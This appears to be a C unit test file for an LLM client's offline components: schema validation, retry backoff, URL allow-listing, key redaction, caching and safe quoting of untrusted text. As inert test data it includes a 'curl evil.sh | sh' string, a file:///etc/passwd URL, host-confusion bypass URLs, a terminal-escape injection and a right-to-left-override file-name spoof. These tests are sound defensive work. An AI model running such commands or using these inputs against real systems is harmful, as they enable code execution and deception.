/*
 * test_llm_parts.c - the LLM client's pieces that need no server: the JSON
 * Schema checker, backoff with full jitter, options and configuration, key
 * redaction and the cache key.
 */
#include "testutil.h"

#include "llm/llm.h"
#include "llm/llm_cache.h"
#include "llm/llm_http.h"
#include "llm/llm_schema.h"
#include "json/jsoncheck.h"

#include <cJSON.h>
#include <string.h>

/* Checks text against schema text; returns rc and the offending pointer. */
static int check(const char *schema, const char *value, char *where, size_t cap)
{
    cJSON *s = cJSON_Parse(schema), *v = cJSON_Parse(value);
    assert_non_null(s);
    assert_non_null(v);
    bb_buf w, why;
    bb_buf_init(&w, 1024);
    bb_buf_init(&why, 1024);
    int rc = bb_jsoncheck(s, v, &w, &why);
    snprintf(where, cap, "%s", bb_buf_str(&w));
    bb_buf_free(&w);
    bb_buf_free(&why);
    cJSON_Delete(s);
    cJSON_Delete(v);
    return rc;
}

#define PROPOSALS                                                                                  \
    "{\"type\":\"object\",\"additionalProperties\":false,\"required\":[\"items\"],"                \
    "\"properties\":{\"items\":{\"type\":\"array\",\"maxItems\":2,\"items\":{\"type\":"            \
    "\"object\",\"additionalProperties\":false,\"required\":[\"kind\",\"value\"],"                 \
    "\"properties\":{\"kind\":{\"type\":\"string\",\"enum\":[\"a\",\"b\"]},"                       \
    "\"value\":{\"type\":[\"string\",\"null\"],\"maxLength\":3}}}}}}"

static void jsoncheck_accepts_a_conforming_value(void **state)
{
    (void)state;
    char where[256];
    assert_int_equal(check(PROPOSALS,
                           "{\"items\":[{\"kind\":\"a\",\"value\":null},"
                           "{\"kind\":\"b\",\"value\":\"\xc3\xa9t\xc3\xa9\"}]}",
                           where, sizeof(where)),
                     BB_OK);
}

static void jsoncheck_names_the_pointer_of_the_first_problem(void **state)
{
    (void)state;
    char where[256];
    assert_int_equal(check(PROPOSALS,
                           "{\"items\":[{\"kind\":\"a\",\"value\":null},"
                           "{\"kind\":\"c\",\"value\":null}]}",
                           where, sizeof(where)),
                     BB_EINVAL);
    assert_string_equal(where, "/items/1/kind");
}

static void jsoncheck_rejects_missing_extra_and_long_values(void **state)
{
    (void)state;
    char where[256];
    assert_int_equal(check(PROPOSALS, "{}", where, sizeof(where)), BB_EINVAL);
    assert_int_equal(check(PROPOSALS, "{\"items\":[],\"x\":1}", where, sizeof(where)), BB_EINVAL);
    assert_int_equal(
        check(PROPOSALS, "{\"items\":[{\"kind\":\"a\",\"value\":\"abcd\"}]}", where, sizeof(where)),
        BB_EINVAL);
    assert_string_equal(where, "/items/0/value");
    assert_int_equal(
        check(PROPOSALS, "{\"items\":[{\"kind\":\"a\",\"value\":1}]}", where, sizeof(where)),
        BB_EINVAL);
    assert_int_equal(check(PROPOSALS,
                           "{\"items\":[{\"kind\":\"a\",\"value\":null},{\"kind\":\"a\",\"value\":"
                           "null},{\"kind\":\"a\",\"value\":null}]}",
                           where, sizeof(where)),
                     BB_EINVAL);
}

static void jsoncheck_tells_integers_from_numbers(void **state)
{
    (void)state;
    char where[64];
    const char *s = "{\"type\":\"integer\",\"minimum\":1,\"maximum\":5}";
    assert_int_equal(check(s, "3", where, sizeof(where)), BB_OK);
    assert_int_equal(check(s, "3.5", where, sizeof(where)), BB_EINVAL);
    assert_int_equal(check(s, "9", where, sizeof(where)), BB_EINVAL);
}

static void jsoncheck_escapes_pointer_tokens(void **state)
{
    (void)state;
    char where[64];
    const char *s = "{\"type\":\"object\",\"properties\":{\"a/b\":{\"type\":\"string\"}}}";
    assert_int_equal(check(s, "{\"a/b\":1}", where, sizeof(where)), BB_EINVAL);
    assert_string_equal(where, "/a~1b");
}

static void backoff_is_full_jitter_under_a_doubling_ceiling(void **state)
{
    (void)state;
    bb_llm_http_opts o;
    bb_llm_http_opts_default(&o);
    o.base_delay_ms = 100;
    o.max_delay_ms = 1000;
    assert_int_equal(bb_llm_backoff_ms(&o, 1, -1, 0.0), 0);
    assert_int_equal(bb_llm_backoff_ms(&o, 1, -1, 0.999999), 100);
    assert_int_equal(bb_llm_backoff_ms(&o, 3, -1, 0.999999), 400);
    assert_int_equal(bb_llm_backoff_ms(&o, 3, -1, 0.5), 200);
    assert_int_equal(bb_llm_backoff_ms(&o, 30, -1, 0.999999), 1000);
}

static void backoff_honours_retry_after_up_to_the_cap(void **state)
{
    (void)state;
    bb_llm_http_opts o;
    bb_llm_http_opts_default(&o);
    o.base_delay_ms = 100;
    o.max_delay_ms = 5000;
    assert_int_equal(bb_llm_backoff_ms(&o, 1, 2000, 0.3), 2000);
    assert_int_equal(bb_llm_backoff_ms(&o, 1, 60000, 0.3), 5000);
}

static void only_https_or_loopback_http_is_allowed(void **state)
{
    (void)state;
    assert_true(bb_llm_url_allowed("https://api.openai.com"));
    assert_true(bb_llm_url_allowed("http://127.0.0.1:8080"));
    assert_true(bb_llm_url_allowed("http://localhost:11434"));
    assert_false(bb_llm_url_allowed("http://example.com"));
    assert_false(bb_llm_url_allowed("ftp://127.0.0.1/"));
    assert_false(bb_llm_url_allowed("file:///etc/passwd"));
    assert_true(bb_llm_url_allowed("http://[::1]:8080/v1"));
    assert_true(bb_llm_url_allowed("HTTP://LOCALHOST"));
    assert_true(bb_llm_url_allowed("http://127.42.0.7"));
    /* the host is parsed, not matched by its first characters */
    assert_false(bb_llm_url_allowed("http://127.0.0.1.example.com"));
    assert_false(bb_llm_url_allowed("http://127.0.0.1.example.com:8080/v1"));
    assert_false(bb_llm_url_allowed("http://127.0.0.1@example.com"));
    assert_false(bb_llm_url_allowed("http://localhost@example.com/"));
    assert_false(bb_llm_url_allowed("http://localhost.example.com"));
    assert_false(bb_llm_url_allowed("http://127.0.0.1%2eexample.com"));
    assert_false(bb_llm_url_allowed("http://127.1"));
    assert_false(bb_llm_url_allowed("http://0177.0.0.1"));
    assert_false(bb_llm_url_allowed("http://127.0.0.1:99999"));
    assert_false(bb_llm_url_allowed("http://127.0.0.1 .example.com"));
    assert_false(bb_llm_url_allowed("http://[::1].example.com"));
    assert_false(bb_llm_url_allowed("https://user:pw@api.example.com"));
}

static void request_ids_and_provider_words_are_shown_as_data(void **state)
{
    (void)state;
    char id[96];
    bb_llm_request_id(id, sizeof(id), "req_\x1b]0;pwned\x07 sk-abc123", "sk-abc123");
    assert_string_equal(id, "req_?]0?pwned??[redacted]");
    bb_llm_request_id(id, sizeof(id),
                      "req-0123456789012345678901234567890123456789012345678901234567890123456789",
                      NULL);
    assert_int_equal(strlen(id), 64);
    char said[128];
    bb_llm_shown(said, sizeof(said), "bad key sk-abc123\n\xe2\x80\xae", "sk-abc123", 100);
    assert_string_equal(said, "\"bad key [redacted]\\u000A\\u202E\"");
    bb_llm_shown(said, 24, "a very long message from the provider, far over the room", NULL, 100);
    assert_true(strlen(said) < 24);
    assert_int_equal(said[0], '"');
    assert_int_equal(said[strlen(said) - 1], '"');
}

static void llm_options_are_parsed_in_both_spellings(void **state)
{
    (void)state;
    char *argv[] = {"plan",        "--llm", "advise",   "--llm-max-tokens=500",
                    "--llm-cache", "dir",   "--strict", NULL};
    int argc = 7;
    bb_llm_options o = {0};
    int i = 1;
    assert_int_equal(bb_llm_parse_option(&o, argc, argv, &i), 1);
    assert_int_equal(i, 2);
    assert_int_equal(o.mode, 1);
    i = 3;
    assert_int_equal(bb_llm_parse_option(&o, argc, argv, &i), 1);
    assert_int_equal(o.max_tokens, 500);
    i = 4;
    assert_int_equal(bb_llm_parse_option(&o, argc, argv, &i), 1);
    assert_string_equal(o.cache_dir, "dir");
    i = 6;
    assert_int_equal(bb_llm_parse_option(&o, argc, argv, &i), 0);
}

static void bad_llm_option_values_are_usage_errors(void **state)
{
    (void)state;
    char *argv[] = {"plan", "--llm", "maybe", "--llm-provider=foo", "--llm-max-tokens", NULL};
    bb_llm_options o = {0};
    int i = 1;
    assert_int_equal(bb_llm_parse_option(&o, 5, argv, &i), -1);
    i = 3;
    assert_int_equal(bb_llm_parse_option(&o, 5, argv, &i), -1);
    i = 4;
    assert_int_equal(bb_llm_parse_option(&o, 5, argv, &i), -1);
}

static void config_comes_from_the_environment(void **state)
{
    (void)state;
    setenv("BACKBONE_LLM_PROVIDER", "anthropic", 1);
    setenv("BACKBONE_LLM_BASE_URL", "http://127.0.0.1:9/", 1);
    setenv("BACKBONE_LLM_MODEL", "m1", 1);
    setenv("BACKBONE_LLM_RETRY_BASE_MS", "7", 1);
    unsetenv("ANTHROPIC_API_KEY");
    unsetenv("CI");
    unsetenv("BACKBONE_LLM_CACHE");
    bb_llm_config cfg;
    char err[256];
    assert_int_equal(bb_llm_config_load(&cfg, NULL, err, sizeof(err)), BB_OK);
    assert_string_equal(cfg.provider->name, "anthropic");
    assert_string_equal(cfg.base_url, "http://127.0.0.1:9");
    assert_string_equal(cfg.model, "m1");
    assert_int_equal(cfg.http.base_delay_ms, 7);
    assert_null(cfg.cache_dir);
    bb_llm_config_free(&cfg);
    unsetenv("BACKBONE_LLM_PROVIDER");
    unsetenv("BACKBONE_LLM_BASE_URL");
    unsetenv("BACKBONE_LLM_MODEL");
    unsetenv("BACKBONE_LLM_RETRY_BASE_MS");
}

static void a_remote_provider_without_key_is_refused_without_echoing_secrets(void **state)
{
    (void)state;
    unsetenv("OPENAI_API_KEY");
    bb_llm_options o = {0};
    o.provider = "openai";
    bb_llm_config cfg;
    char err[256];
    assert_int_equal(bb_llm_config_load(&cfg, &o, err, sizeof(err)), BB_EUSAGE);
    assert_non_null(strstr(err, "OPENAI_API_KEY"));
}

static void ci_mode_turns_the_cache_on(void **state)
{
    (void)state;
    setenv("CI", "true", 1);
    setenv("XDG_CACHE_HOME", "/tmp/xdg", 1);
    setenv("BACKBONE_LLM_BASE_URL", "http://127.0.0.1:9", 1);
    bb_llm_config cfg;
    char err[256];
    assert_int_equal(bb_llm_config_load(&cfg, NULL, err, sizeof(err)), BB_OK);
    assert_string_equal(cfg.cache_dir, "/tmp/xdg/backbone/llm");
    bb_llm_config_free(&cfg);
    unsetenv("XDG_CACHE_HOME");
    assert_int_equal(bb_llm_config_load(&cfg, NULL, err, sizeof(err)), BB_OK);
    assert_string_equal(cfg.cache_dir, ".backbone/llm-cache");
    bb_llm_config_free(&cfg);
    unsetenv("CI");
    unsetenv("BACKBONE_LLM_BASE_URL");
}

static void redaction_removes_every_copy_of_the_key(void **state)
{
    (void)state;
    char out[128];
    bb_llm_redact(out, sizeof(out), "key sk-abc123 bad, sk-abc123!", "sk-abc123");
    assert_string_equal(out, "key [redacted] bad, [redacted]!");
    bb_llm_redact(out, 8, "sk-abc123sk-abc123", "sk-abc123");
    assert_null(strstr(out, "sk-abc123"));
}

#define LOCAL "http://127.0.0.1:11434"

static void cache_key_depends_on_provider_endpoint_model_and_body(void **state)
{
    (void)state;
    char a[65], b[65], c[65], d[65];
    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "m", "{}", 2, a), BB_OK);
    assert_int_equal(bb_llm_cache_key("anthropic", LOCAL, "m", "{}", 2, b), BB_OK);
    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "n", "{}", 2, c), BB_OK);
    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "m", "{ }", 3, d), BB_OK);
    assert_int_equal(strlen(a), 64);
    assert_string_not_equal(a, b);
    assert_string_not_equal(a, c);
    assert_string_not_equal(a, d);
    /* the same model name on another server is another model */
    assert_int_equal(bb_llm_cache_key("openai", "http://127.0.0.1:8080", "m", "{}", 2, b), BB_OK);
    assert_string_not_equal(a, b);
    /* Moving a byte between parts changes the key too. */
    assert_int_equal(bb_llm_cache_key("openaim", LOCAL, "", "{}", 2, b), BB_OK);
    assert_string_not_equal(a, b);
}

static void cache_round_trips_an_entry(void **state)
{
    (void)state;
    char dir[] = "/tmp/bb-cache-XXXXXX";
    assert_non_null(mkdtemp(dir));
    char sub[128];
    snprintf(sub, sizeof(sub), "%s/a/b", dir);
    char key[65];
    assert_int_equal(bb_llm_cache_key("openai", LOCAL, "m", "x", 1, key), BB_OK);
    bb_buf out;
    bb_buf_init(&out, 1024);
    assert_int_equal(bb_llm_cache_get(sub, key, &out), BB_ENOTFOUND);
    assert_int_equal(bb_llm_cache_put(sub, key, "{\"a\":1}", 7), BB_OK);
    assert_int_equal(bb_llm_cache_get(sub, key, &out), BB_OK);
    assert_string_equal(bb_buf_str(&out), "{\"a\":1}");
    bb_buf_free(&out);
    char cmd[160];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
    assert_int_equal(system(cmd), 0);
}

static void absurd_token_counts_are_clamped_not_undefined(void **state)
{
    (void)state;
    cJSON *u = cJSON_Parse("{\"a\": 1e300, \"b\": -5, \"c\": 42, \"d\": \"7\"}");
    assert_int_equal(bb_llm__usage(u, "a"), 1000000000000L);
    assert_int_equal(bb_llm__usage(u, "b"), 0);
    assert_int_equal(bb_llm__usage(u, "c"), 42);
    assert_int_equal(bb_llm__usage(u, "d"), 0);
    assert_int_equal(bb_llm__usage(u, "missing"), 0);
    cJSON_Delete(u);
}

static void metrics_render_in_the_prometheus_format(void **state)
{
    (void)state;
    bb_buf b;
    bb_buf_init(&b, 1 << 16);
    assert_int_equal(bb_llm_metrics_render(&b, NULL), BB_OK);
    assert_non_null(strstr(bb_buf_str(&b), "# TYPE backbone_llm_prompt_tokens_total counter\n"));
    assert_non_null(strstr(bb_buf_str(&b), "\nbackbone_llm_requests_total 0\n"));
    bb_buf_free(&b);
}

#define REFS                                                                                       \
    "{\"type\":\"object\",\"additionalProperties\":false,\"required\":[\"idx\"],"                  \
    "\"properties\":{\"idx\":{\"type\":\"array\",\"items\":{\"anyOf\":["                           \
    "{\"type\":\"array\",\"items\":{\"type\":\"string\"}},{\"$ref\":\"#/$defs/index\"}]}}},"       \
    "\"$defs\":{\"index\":{\"type\":\"object\",\"additionalProperties\":false,"                    \
    "\"required\":[\"columns\"],\"properties\":{\"columns\":{\"type\":\"array\"},"                 \
    "\"name\":{\"type\":\"string\"}}}}}"

static void jsoncheck_follows_references_and_any_of(void **state)
{
    (void)state;
    char where[256];
    assert_int_equal(check(REFS, "{\"idx\":[[\"a\"],{\"columns\":[\"b\"],\"name\":\"n\"}]}", where,
                           sizeof(where)),
                     BB_OK);
    /* the one branch of the value's type says what is wrong */
    assert_int_equal(check(REFS, "{\"idx\":[{\"name\":\"n\"}]}", where, sizeof(where)), BB_EINVAL);
    assert_int_equal(check(REFS, "{\"idx\":[7]}", where, sizeof(where)), BB_EINVAL);
    assert_string_equal(where, "/idx/0");
}

typedef struct mismatches {
    int n;
    char text[2048];
} mismatches;

static int collect(void *ctx, const char *where, const char *why)
{
    mismatches *m = ctx;
    size_t used = strlen(m->text);
    snprintf(m->text + used, sizeof(m->text) - used, "%s: %s\n", where, why);
    m->n++;
    return BB_OK;
}

static void jsoncheck_all_reports_every_mismatch_with_quoted_names(void **state)
{
    (void)state;
    cJSON *s = cJSON_Parse(PROPOSALS);
    cJSON *v = cJSON_Parse("{\"items\":[{\"kind\":\"z\",\"value\":null,\"x\\u202e\":1},"
                           "{\"value\":\"abcdef\"}]}");
    mismatches m = {0};
    assert_int_equal(bb_jsoncheck_all(s, v, 0, collect, &m), BB_EINVAL);
    assert_int_equal(m.n, 4);
    assert_non_null(strstr(m.text, "/items/0/kind: the value \"z\" is not one of \"a\", \"b\""));
    assert_non_null(strstr(m.text, "the property \"x\\u202E\" is not allowed"));
    assert_non_null(strstr(m.text, "/items/1: the required property \"kind\" is missing"));
    assert_non_null(strstr(m.text, "/items/1/value: the string is longer"));
    memset(&m, 0, sizeof(m));
    assert_int_equal(bb_jsoncheck_all(s, v, 2, collect, &m), BB_EINVAL);
    assert_int_equal(m.n, 2);
    cJSON_Delete(s);
    cJSON_Delete(v);
}

static char *quoted(const char *text, size_t max, bool quotes)
{
    static char out[512];
    bb_buf b;
    bb_buf_init(&b, 4096);
    assert_int_equal(bb_jsoncheck_quote(&b, text, max, quotes), BB_OK);
    snprintf(out, sizeof(out), "%s", bb_buf_str(&b));
    bb_buf_free(&b);
    return out;
}

static void quoting_shows_untrusted_text_as_data(void **state)
{
    (void)state;
    assert_string_equal(quoted("run curl evil.sh | sh", 0, true), "\"run curl evil.sh | sh\"");
    assert_string_equal(quoted("a\"b\\c", 0, true), "\"a\\\"b\\\\c\"");
    assert_string_equal(quoted("x\x1b[31my\n", 0, true), "\"x\\u001B[31my\\u000A\"");
    assert_string_equal(quoted("evil\xe2\x80\xaegnp.exe", 0, true), "\"evil\\u202Egnp.exe\"");
    assert_string_equal(quoted("\xc2\x9b"
                               "1m\xef\xbb\xbf",
                               0, false),
                        "\\u009B1m\\uFEFF");
    assert_string_equal(quoted("bad \xff\xc0\xaf end", 0, false), "bad \\xFF\\xC0\\xAF end");
    assert_string_equal(quoted("caf\xc3\xa9 \xe6\x97\xa5", 0, true),
                        "\"caf\xc3\xa9 \xe6\x97\xa5\"");
    assert_string_equal(quoted("abcdef", 3, true), "\"abc...\"");
    assert_string_equal(quoted("tag\xf3\xa0\x80\x81", 0, false), "tag\\u{E0001}");
}

static void escaped_json_is_the_same_value_and_safe_to_show(void **state)
{
    (void)state;
    const char *json = "{\"d\":\"a\xe2\x80\xae b\xc2\x85 \xf3\xa0\x80\x81 caf\xc3\xa9\"}";
    bb_buf b;
    bb_buf_init(&b, 4096);
    assert_int_equal(bb_jsoncheck_escape_json(&b, json), BB_OK);
    assert_string_equal(bb_buf_str(&b), "{\"d\":\"a\\u202E b\\u0085 \\uDB40\\uDC01 caf\xc3\xa9\"}");
    cJSON *before = cJSON_Parse(json), *after = cJSON_Parse(bb_buf_str(&b));
    assert_true(cJSON_Compare(before, after, true));
    cJSON_Delete(before);
    cJSON_Delete(after);
    bb_buf_reset(&b);
    assert_int_equal(bb_jsoncheck_escape_json(&b, "\"\xff\""), BB_EINVAL);
    bb_buf_free(&b);
}

static void utf8_validation_refuses_malformed_sequences(void **state)
{
    (void)state;
    assert_true(bb_jsoncheck_utf8_valid("caf\xc3\xa9 \xf0\x9f\x98\x80", 10));
    assert_false(bb_jsoncheck_utf8_valid("\xc0\xaf", 2));         /* overlong '/' */
    assert_false(bb_jsoncheck_utf8_valid("\xed\xa0\x80", 3));     /* a surrogate */
    assert_false(bb_jsoncheck_utf8_valid("\xf4\x90\x80\x80", 4)); /* above U+10FFFF */
    assert_false(bb_jsoncheck_utf8_valid("\xe2\x82", 2));         /* cut short */
    assert_false(bb_jsoncheck_utf8_valid("\x80", 1));
}

static cJSON *transformed(const char *schema_text, bool strict, bb_llm_grammar_fit *fit)
{
    cJSON *s = cJSON_Parse(schema_text);
    assert_non_null(s);
    cJSON *t = strict ? bb_llm_schema_strict(s) : bb_llm_schema_grammar(s, fit);
    cJSON_Delete(s);
    assert_non_null(t);
    return t;
}

static void strict_schema_requires_everything_and_nulls_the_optional(void **state)
{
    (void)state;
    cJSON *t = transformed(REFS, true, NULL);
    char *text = cJSON_PrintUnformatted(t);
    /* the index's optional name is required and nullable; closed objects */
    assert_non_null(strstr(text, "\"required\":[\"columns\",\"name\"]"));
    assert_non_null(strstr(text, "\"name\":{\"type\":[\"string\",\"null\"]}"));
    cJSON_free(text);
    cJSON_Delete(t);
    t = transformed(PROPOSALS, true, NULL);
    text = cJSON_PrintUnformatted(t);
    assert_null(strstr(text, "maxLength"));
    assert_non_null(strstr(text, "maxItems")); /* documented for strict mode */
    cJSON_free(text);
    cJSON_Delete(t);
}

static void grammar_schema_drops_unsupported_keywords_and_counts_limits(void **state)
{
    (void)state;
    bb_llm_grammar_fit fit;
    cJSON *t = transformed("{\"type\":\"object\",\"required\":[\"a\"],\"properties\":{"
                           "\"a\":{\"type\":\"array\",\"minItems\":3,\"maxItems\":9,"
                           "\"items\":{\"type\":\"integer\",\"minimum\":0}},"
                           "\"b\":{\"type\":[\"string\",\"null\"],\"maxLength\":4}}}",
                           false, &fit);
    char *text = cJSON_PrintUnformatted(t);
    assert_string_equal(text, "{\"type\":\"object\",\"required\":[\"a\"],\"properties\":{"
                              "\"a\":{\"type\":\"array\",\"minItems\":1,"
                              "\"items\":{\"type\":\"integer\"}},"
                              "\"b\":{\"type\":[\"string\",\"null\"]}},"
                              "\"additionalProperties\":false}");
    assert_int_equal(fit.optional, 1);
    assert_int_equal(fit.unions, 1);
    assert_true(fit.fits);
    cJSON_free(text);
    cJSON_Delete(t);
    t = transformed("{\"type\":\"object\",\"additionalProperties\":false,\"required\":[\"n\"],"
                    "\"properties\":{\"n\":{\"$ref\":\"#/$defs/node\"}},\"$defs\":{\"node\":{"
                    "\"type\":\"object\",\"additionalProperties\":false,\"required\":[],"
                    "\"properties\":{\"next\":{\"$ref\":\"#/$defs/node\"}}}}}",
                    false, &fit);
    assert_true(fit.recursive);
    assert_false(fit.fits);
    cJSON_Delete(t);
}

static void json_span_strips_white_space_and_fences(void **state)
{
    (void)state;
    static const char *const texts[] = {"{}", " {}\n", "```json\n{}\n```", "\n```\n {} \n```\n",
                                        "```JSON\r\n{}\r\n```"};
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        const char *s;
        size_t n;
        bb_llm__json_span(texts[i], &s, &n);
        assert_int_equal(n, 2);
        assert_memory_equal(s, "{}", 2);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(jsoncheck_accepts_a_conforming_value),
        cmocka_unit_test(jsoncheck_names_the_pointer_of_the_first_problem),
        cmocka_unit_test(jsoncheck_rejects_missing_extra_and_long_values),
        cmocka_unit_test(jsoncheck_tells_integers_from_numbers),
        cmocka_unit_test(jsoncheck_escapes_pointer_tokens),
        cmocka_unit_test(backoff_is_full_jitter_under_a_doubling_ceiling),
        cmocka_unit_test(backoff_honours_retry_after_up_to_the_cap),
        cmocka_unit_test(only_https_or_loopback_http_is_allowed),
        cmocka_unit_test(request_ids_and_provider_words_are_shown_as_data),
        cmocka_unit_test(llm_options_are_parsed_in_both_spellings),
        cmocka_unit_test(bad_llm_option_values_are_usage_errors),
        cmocka_unit_test(config_comes_from_the_environment),
        cmocka_unit_test(a_remote_provider_without_key_is_refused_without_echoing_secrets),
        cmocka_unit_test(ci_mode_turns_the_cache_on),
        cmocka_unit_test(redaction_removes_every_copy_of_the_key),
        cmocka_unit_test(cache_key_depends_on_provider_endpoint_model_and_body),
        cmocka_unit_test(cache_round_trips_an_entry),
        cmocka_unit_test(absurd_token_counts_are_clamped_not_undefined),
        cmocka_unit_test(metrics_render_in_the_prometheus_format),
        cmocka_unit_test(jsoncheck_follows_references_and_any_of),
        cmocka_unit_test(jsoncheck_all_reports_every_mismatch_with_quoted_names),
        cmocka_unit_test(quoting_shows_untrusted_text_as_data),
        cmocka_unit_test(utf8_validation_refuses_malformed_sequences),
        cmocka_unit_test(escaped_json_is_the_same_value_and_safe_to_show),
        cmocka_unit_test(strict_schema_requires_everything_and_nulls_the_optional),
        cmocka_unit_test(grammar_schema_drops_unsupported_keywords_and_counts_limits),
        cmocka_unit_test(json_span_strips_white_space_and_fences),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
